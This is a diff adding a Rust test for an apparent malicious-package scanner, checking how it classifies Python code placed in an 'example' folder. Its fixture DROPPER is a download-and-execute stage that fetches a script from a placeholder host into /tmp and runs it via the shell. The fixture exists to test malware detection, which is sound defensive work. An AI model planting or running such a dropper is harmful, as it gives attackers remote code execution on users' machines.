@@ -252,3 +252,45 @@ fn character_codes_re_exported_by_a_package_init_fold_in_the_importer() {
     );
     assert_eq!(report["verdict"], "malicious", "{report}");
 }
+
+const DROPPER: &str = "import subprocess\nfrom urllib import request\n\ndef run_it():\n    request.urlretrieve('https://drop.example.invalid/stage.py', '/tmp/stage.py')\n    subprocess.call('python3 /tmp/stage.py', shell=True)\n\nrun_it()\n";
+
+#[test]
+fn a_package_whose_only_code_sits_in_an_example_folder_ships_that_code() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("crypter-1.0");
+    write_package(
+        &root,
+        &[
+            (
+                "setup.py",
+                "from setuptools import setup\nsetup(name='crypter')\n",
+            ),
+            ("src/pyobf/__init__.py", ""),
+            ("src/pyobf/example/__init__.py", ""),
+            ("src/pyobf/example/encryptor.py", DROPPER),
+        ],
+    );
+    let contexts = evidence_field(&scan(&root), "encryptor.py", "context");
+    assert!(contexts.iter().all(|c| c != "test_or_docs"), "{contexts:?}");
+
+    // Beside real shipped code, the example stays an example.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("crypter-1.0");
+    write_package(
+        &root,
+        &[
+            (
+                "setup.py",
+                "from setuptools import setup\nsetup(name='crypter')\n",
+            ),
+            (
+                "src/pyobf/__init__.py",
+                "def obfuscate(text):\n    return text[::-1]\n",
+            ),
+            ("src/pyobf/example/encryptor.py", DROPPER),
+        ],
+    );
+    let contexts = evidence_field(&scan(&root), "encryptor.py", "context");
+    assert!(contexts.iter().all(|c| c == "test_or_docs"), "{contexts:?}");
+}
